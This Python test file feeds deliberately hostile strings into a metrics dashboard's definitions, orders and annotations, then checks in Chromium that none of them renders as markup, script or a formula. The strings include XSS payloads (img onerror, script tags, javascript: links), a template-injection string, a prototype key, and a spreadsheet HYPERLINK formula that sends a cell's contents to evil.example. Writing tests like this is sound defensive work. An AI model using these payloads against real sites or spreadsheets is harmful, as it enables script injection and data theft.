"""Names that would be markup, script or a formula, on every page of the web against the real binary, in Chromium."""

import datetime
import itertools
import json
import threading

from harness import Server, until
from pages import check_pages

NAMES = [
    '<img src=x onerror="window.__hostile = 1">',
    "<script>window.__hostile = 1</script>",
    '"><svg onload="window.__hostile = 1">',
    "javascript:window.__hostile=1",
    "{{constructor.constructor('window.__hostile = 1')()}} {a|rich} {b} %s",
    '=HYPERLINK("https://evil.example/?"&A1,"sale")',
    "__proto__",
    "a \u202eright-to-left\u202c name that is far too long to stand anywhere " + "x" * 200,
]
DEFINITIONS = """
streams:
  orders:
    id: id
    time: at
    fields:
      id: string
      at: timestamp
      product: string
      country: string
      status: string
      total: "decimal(12,2)"
cubes:
  sales:
    from: orders
    bucket: 10s
    dimensions: [product, country, status]
    measures: {n: count(*), failed: "count(*) filter (where status <> 'paid')", revenue: sum(total)}
metrics:
  orders: {of: sales, expr: n, unit: count, description: "<img src=x onerror='window.__hostile = 1'>"}
  failed: {of: sales, expr: failed, unit: count}
  revenue: {of: sales, expr: revenue, unit: EUR, title: {en: "<b onclick='window.__hostile = 1'>Revenue</b>"}}
  failure_share: {of: sales, expr: failed / n, unit: percent}
monitors:
  failures:
    description: "<img src=x onerror='window.__hostile = 1'>"
    metric: failure_share
    by: [product]
    detect: {threshold: {above: 0.5, min_samples: 5}}
    owner: "<img src=x onerror='window.__hostile = 1'>"
boards:
  hostile:
    title: {en: "<img src=x onerror='window.__hostile = 1'>"}
    incidents: true
    tiles: [{metric: revenue, where: {product: NAME}}, {metric: orders}, {metric: failure_share}]
    charts:
      - {metric: orders, by: product, shape: stacked}
      - {metric: revenue, by: product, shape: bars}
      - {metric: failure_share, by: product, shape: lines}
    panels:
      - {kind: table, metric: orders, by: [product, country], also: [revenue]}
      - {kind: heatmap, metric: orders, where: {product: NAME}}
      - {kind: funnel, title: {en: "<s>Steps</s>"}, steps: [{metric: orders}, {metric: failed}]}
      - {kind: sankey, metric: orders, by: [product, country, status]}
      - {kind: gauge, metric: failure_share, objective: "0.02", good: down, where: {product: NAME}}
      - {kind: map, metric: orders, by: country}
      - {kind: text, text: {en: "<script>window.__hostile = 1</script> [here](javascript:window.__hostile=1)"}}
""".replace("NAME", json.dumps(NAMES[0]))


def test_no_name_becomes_markup_script_or_formula_anywhere(tmp_path):
    config, data = tmp_path / "definitions", tmp_path / "data"
    config.mkdir()
    (config / "test.yaml").write_text(DEFINITIONS)
    server = Server(config, data).start()
    numbers = itertools.count()

    def order(at, name):
        n = next(numbers)
        country = [*["DE", "FR"] * 4, *NAMES][n % (8 + len(NAMES))]
        # Those of two names fail, so that the incident is theirs.
        fails = n % 5 != 0 if name in NAMES[:2] else n % 20 == 0
        status = NAMES[n % 2] if fails else "paid"
        return {
            "id": f"{n}",
            "at": at.isoformat(),
            "product": name,
            "country": country,
            "status": status,
            "total": f"{n % 90 + 10}.00",
        }

    stop = threading.Event()

    def go_on():
        while not stop.wait(0.5):
            now = datetime.datetime.now(datetime.UTC)
            server.post("orders", [order(now, name) for name in NAMES])

    now = datetime.datetime.now(datetime.UTC)
    past = [now - datetime.timedelta(seconds=10 * tick) for tick in range(180, 0, -1)]
    server.post("orders", [order(at, name) for at in past for name in NAMES])
    bad = {**order(now, NAMES[0]), "total": NAMES[0]}
    assert server.post("orders", [bad]).json()["rejected"] == 1
    traffic = threading.Thread(target=go_on)
    traffic.start()
    try:
        until(lambda: server.get("/v1/incidents").json()["incidents"], "an incident opens")
        note = {"title": NAMES[0], "text": NAMES[1], "by": NAMES[2], "kind": "deployment"}
        kind = {"Content-Type": "application/json"}
        assert server.request("POST", "/v1/annotations", json.dumps(note).encode(), kind).status == 201
        check_pages(server, "hostile")
    finally:
        stop.set()
        traffic.join()
        assert server.stop() == 0
